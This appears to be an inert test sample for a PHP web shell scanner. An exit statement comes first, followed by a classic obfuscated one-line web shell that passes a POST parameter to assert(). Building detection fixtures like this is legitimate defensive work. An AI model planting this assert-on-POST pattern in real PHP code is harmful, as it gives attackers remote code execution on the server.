<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php assert/*x*/($_POST['x']); ?>
